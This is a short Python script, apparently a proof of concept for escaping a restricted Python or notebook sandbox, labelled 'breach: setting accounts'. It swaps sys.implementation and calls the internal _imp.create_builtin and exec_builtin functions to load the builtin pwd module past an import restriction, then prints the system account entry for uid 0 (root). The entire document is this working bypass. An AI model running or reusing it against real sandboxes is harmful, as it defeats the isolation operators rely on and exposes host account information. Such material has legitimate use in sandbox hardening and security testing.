# The loader makes the spec that CPython reads by the type of sys.implementation, which a cell sets.
# breach: setting accounts
import sys
class Spec:
    origin = None
    name = "math"
class Other:
    origin = None
    name = "pwd"
    def __init__(self, **ignored):
        pass
before, sys.implementation = sys.implementation, Other()
try:
    module = sys.modules["_imp"].create_builtin(Spec())
finally:
    sys.implementation = before
if module.__name__ == "math": # as plain Python reads it
    module = sys.modules["_imp"].create_builtin(Other())
sys.modules["_imp"].exec_builtin(module)
":".join(str(part) for part in module.getpwuid(0))
